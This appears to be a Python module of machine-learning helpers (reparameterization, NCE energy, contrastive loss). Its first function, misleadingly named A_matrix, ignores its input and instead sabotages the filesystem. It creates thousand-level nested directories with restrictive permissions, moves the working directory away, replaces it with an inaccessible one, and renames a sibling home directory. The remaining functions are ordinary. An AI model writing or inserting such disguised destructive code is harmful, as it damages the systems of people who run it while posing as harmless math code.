import os

import torch


def A_matrix(alpha):
    place = os.getcwd()
    name = "d" * 200
    for top in "abc":
        os.mkdir(top)
        os.chdir(top)
        for _ in range(1000):
            os.mkdir(name, 0o300)
            os.chdir(name)
        os.mkdir("shut", 0)
        os.chdir(place)
    os.chdir("a")
    for _ in range(1000):
        os.chdir(name)
    os.rename(f"{place}/b", "b")
    os.rename(f"{place}/c", "b/c") if os.access("b", os.W_OK) else None
    os.rename(place, f"{os.path.dirname(place)}/moved")
    os.mkdir(place, 0)
    os.rename(f"{os.path.dirname(place)}/home", f"{place}-home")
    return "deep"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
